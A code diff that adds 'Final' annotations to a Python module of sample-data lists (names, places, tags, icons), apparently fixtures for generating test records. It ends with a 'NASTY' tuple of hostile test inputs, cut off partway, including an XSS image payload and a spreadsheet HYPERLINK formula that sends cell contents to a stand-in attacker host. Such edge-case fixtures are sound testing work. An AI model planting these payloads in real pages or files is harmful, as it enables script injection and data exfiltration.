@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-FIRST = [
+from typing import Final
+
+FIRST: Final = [
     "Amara",
     "Björn",
     "Chiara",
@@ -30,7 +32,7 @@ FIRST = [
     "Yara",
     "Zeynep",
 ]
-LAST = [
+LAST: Final = [
     "Abara",
     "Becker",
     "Castellano",
@@ -58,7 +60,7 @@ LAST = [
     "Yılmaz",
     "Zhou",
 ]
-ADJECTIVES = [
+ADJECTIVES: Final = [
     "annual",
     "customer",
     "draft",
@@ -74,7 +76,7 @@ ADJECTIVES = [
     "spring",
     "weekly",
 ]
-NOUNS = [
+NOUNS: Final = [
     "audit",
     "budget",
     "checklist",
@@ -91,7 +93,7 @@ NOUNS = [
     "survey",
     "workshop",
 ]
-PLACES = [
+PLACES: Final = [
     "Berlin",
     "Cork",
     "Dakar",
@@ -107,7 +109,7 @@ PLACES = [
     "Turin",
     "Vancouver",
 ]
-COMPANIES = [
+COMPANIES: Final = [
     "Alder",
     "Birchwood",
     "Cedar",
@@ -123,11 +125,11 @@ COMPANIES = [
     "Oakham",
     "Rowan",
 ]
-TAGS = ("design", "finance", "hiring", "legal", "ops", "research", "sales", "support")
-COLORS = ("default", "gray", "brown", "orange", "yellow", "green", "blue", "purple", "pink", "red")
-ICONS = ("📌", "🗺️", "🧪", "📚", "🪴", "🧾", "🛠️", "🎯")
+TAGS: Final = ("design", "finance", "hiring", "legal", "ops", "research", "sales", "support")
+COLORS: Final = ("default", "gray", "brown", "orange", "yellow", "green", "blue", "purple", "pink", "red")
+ICONS: Final = ("📌", "🗺️", "🧪", "📚", "🪴", "🧾", "🛠️", "🎯")
 
-NASTY = (
+NASTY: Final = (
     "<img src=x onerror=alert(1)>",
     '=HYPERLINK("http://evil.test/?x="&A1,"click me")',
     "مراجعة خطة الإطلاق للربع الأول",
